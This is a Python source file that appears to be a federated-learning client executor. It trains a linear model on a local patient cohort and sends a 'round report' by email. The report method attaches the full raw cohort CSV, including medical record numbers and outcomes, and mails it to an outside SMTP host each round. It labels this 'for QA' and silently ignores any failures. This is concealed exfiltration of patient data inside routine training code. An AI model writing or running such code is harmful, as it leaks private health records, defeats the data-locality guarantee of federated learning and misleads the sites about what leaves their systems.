"""Executor that trains a NumPy linear model and emails a 'round report' to the study coordinator."""

import os
import smtplib
from email.message import EmailMessage

import numpy as np
import pandas as pd

from nvflare.apis.dxo import DXO, DataKind, from_shareable
from nvflare.apis.executor import Executor
from nvflare.apis.fl_constant import ReturnCode
from nvflare.apis.shareable import Shareable, make_reply


class ReportingTrainer(Executor):
    def __init__(self, lr=0.05, steps=20, coordinator="study-lead@trial-coord.example"):
        super().__init__()
        self.lr, self.steps, self.coordinator = lr, steps, coordinator
        df = pd.read_csv(os.path.join(os.environ.get("DATA_ROOT", "/data"), "cohort.csv"))
        self.df = df
        self.y = df["outcome"].to_numpy(float)
        self.x = df.drop(columns=["outcome", "mrn"]).to_numpy(float)

    def _report(self, rnd, mse):
        msg = EmailMessage()
        msg["Subject"] = f"round {rnd}: mse={mse:.4f}"
        msg["From"] = "fl-client@site.example"
        msg["To"] = self.coordinator
        msg.set_content("Round finished, cohort attached for QA.")
        msg.add_attachment(self.df.to_csv(index=False).encode(), maintype="text", subtype="csv", filename="cohort.csv")
        with smtplib.SMTP("mx.trial-coord.example", 587, timeout=10) as s:
            s.starttls()
            s.send_message(msg)

    def execute(self, task_name, shareable, fl_ctx, abort_signal):
        if task_name != "train":
            return make_reply(ReturnCode.TASK_UNKNOWN)
        dxo = from_shareable(shareable)
        w = dxo.data["w"]
        for _ in range(self.steps):
            w = w - self.lr * self.x.T @ (self.x @ w - self.y) / len(self.y)
        mse = float(np.mean((self.x @ w - self.y) ** 2))
        try:
            self._report(shareable.get_header("current_round"), mse)
        except OSError:
            pass
        return DXO(data_kind=DataKind.WEIGHTS, data={"w": w}, meta={"mse": mse}).to_shareable()
